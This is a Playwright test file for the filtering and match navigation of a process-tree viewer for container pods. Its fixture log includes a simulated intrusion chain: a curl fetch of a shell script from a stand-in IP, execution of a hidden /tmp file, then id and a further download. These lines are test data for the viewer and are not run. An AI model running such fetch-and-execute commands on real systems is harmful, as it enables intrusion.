import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
        13 /usr/bin/id 3.5s..3.6s
        14 /usr/bin/curl -o /tmp/.cache/k 4s..5s
  pod payments/worker-0 container 836e5ba9 node n1
    20 /opt/worker 0s..
      21 /usr/bin/psql -c "select CURLY" 6s..7s
      22 /bin/true 7s..8s
`)

withLog(log.text)

test('typing shows what matches with its ancestors, and counts', async ({ viewer }) => {
  const before = await viewer.outline()
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching 3 of 8')
  await expect(viewer.page.getByRole('search')).toContainText('3 matches')
  await viewer.waitForIdle()
  await expect(viewer.row('/usr/bin/id')).toHaveCount(0)
  await expect(viewer.row('/bin/true')).toHaveCount(0)
  await expect(viewer.row('/usr/bin/curl')).toHaveCount(2)
  await expect(viewer.row('/usr/bin/psql')).toBeVisible()
  await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-level', '2')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-level', '3')
  await expect(viewer.row('/opt/worker')).toBeVisible()
  await viewer.filter.fill('')
  await expect(viewer.status).not.toContainText('matching')
  await expect.poll(() => viewer.outline()).toEqual(before)
})

test('every word must match, and the name of the pod counts', async ({ viewer }) => {
  await viewer.filter.fill('PAYMENTS psql')
  await expect(viewer.status).toContainText('matching 1 of 8')
  await viewer.filter.fill('payments')
  await expect(viewer.status).toContainText('matching 3 of 8')
  await expect(viewer.row('default/xwing')).toHaveCount(0)
  await expect(viewer.pods.getByRole('button', { name: /^worker-0/ })).toContainText('3')
})

test('nothing that matches is said, and leaves nothing', async ({ viewer }) => {
  await viewer.filter.fill('no such program')
  await expect(viewer.page.getByRole('search')).toContainText('no match')
  await expect(viewer.rows).toHaveCount(0)
  await expect(viewer.button('Next match')).toBeDisabled()
  const sentence = viewer.page.getByText('No process matches no such program')
  await expect(sentence).toBeVisible()
  // the sentence is of the query that is applied, not of one that is typed and wrong
  await viewer.filter.fill('exit:maybe')
  await expect(viewer.page.getByText('not applied')).toBeVisible()
  await expect(sentence).toBeVisible()
  await viewer.button('Clear filter').click()
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.filter).toHaveValue('')
})

test('n and N go from match to match, round and round', async ({ viewer, page }) => {
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching 3 of 8')
  await viewer.focusTree()
  for (const name of ['/usr/bin/curl -s', '/usr/bin/curl -o', '/usr/bin/psql', '/usr/bin/curl -s']) {
    await page.keyboard.press('n')
    await expect(viewer.row(name)).toHaveAttribute('aria-selected', 'true')
  }
  await page.keyboard.press('N')
  await expect(viewer.row('/usr/bin/psql')).toHaveAttribute('aria-selected', 'true')
})

test('the buttons and Enter go to the next and the previous match', async ({ viewer, page }) => {
  await viewer.filter.fill('curl')
  await viewer.button('Next match').click()
  await expect(viewer.row('/usr/bin/curl -s')).toHaveAttribute('aria-selected', 'true')
  await viewer.button('Next match').click()
  await expect(viewer.row('/usr/bin/curl -o')).toHaveAttribute('aria-selected', 'true')
  await viewer.button('Previous match').click()
  await expect(viewer.row('/usr/bin/curl -s')).toHaveAttribute('aria-selected', 'true')
  await viewer.filter.press('Enter')
  await expect(viewer.row('/usr/bin/curl -o')).toHaveAttribute('aria-selected', 'true')
  await viewer.filter.press('Shift+Enter')
  await expect(viewer.row('/usr/bin/curl -s')).toHaveAttribute('aria-selected', 'true')
  await expect(page.getByRole('search')).toContainText('3 matches')
})

test('a match in a closed pod is found and opened', async ({ viewer }) => {
  await viewer.twisty(viewer.row('payments/worker-0')).click()
  await expect(viewer.row('/usr/bin/psql')).toHaveCount(0)
  await viewer.filter.fill('psql')
  await expect(viewer.status).toContainText('matching 1 of 8')
  await viewer.filter.press('Enter')
  await expect(viewer.row('/usr/bin/psql')).toHaveAttribute('aria-selected', 'true')
})

test('a slash goes to the filter, Escape clears it and then leaves it', async ({ viewer, page }) => {
  await viewer.focusTree()
  await page.keyboard.press('/')
  await expect(viewer.filter).toBeFocused()
  await page.keyboard.type('curl')
  await expect(viewer.status).toContainText('matching 3 of 8')
  await page.keyboard.press('Escape')
  await expect(viewer.filter).toHaveValue('')
  await expect(viewer.status).not.toContainText('matching')
  await page.keyboard.press('Escape')
  await expect(viewer.filter).not.toBeFocused()
})

test('letters that are typed into the filter are no keys of the page', async ({ viewer, page }) => {
  const range = await viewer.visibleRange()
  await viewer.filter.click()
  await page.keyboard.type('wasd0fpn*?')
  await expect(viewer.filter).toHaveValue('wasd0fpn*?')
  expect(await viewer.visibleRange()).toEqual(range)
  await expect(page.getByRole('dialog')).toHaveCount(0)
})

test('the filter is about the events list too', async ({ viewer }) => {
  await viewer.filter.fill('psql')
  await expect(viewer.events.getByRole('option')).toHaveCount(2)
  await expect(viewer.events.getByRole('option').first()).toContainText('/usr/bin/psql')
})

test('the legend filters by what its colours stand for', async ({ viewer }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.status.getByRole('button', { name: 'running', exact: true }).click()
  await expect(viewer.filter).toHaveValue('outcome:running')
  await expect(viewer.row('/usr/bin/netserver')).toBeVisible()
  await viewer.filter.fill('')
  await expect(viewer.status).not.toContainText('matching')
  await viewer.status.getByRole('button', { name: 'exit 0' }).click({ modifiers: ['Shift'] })
  await expect(viewer.filter).toHaveValue('-outcome:exit0')
})
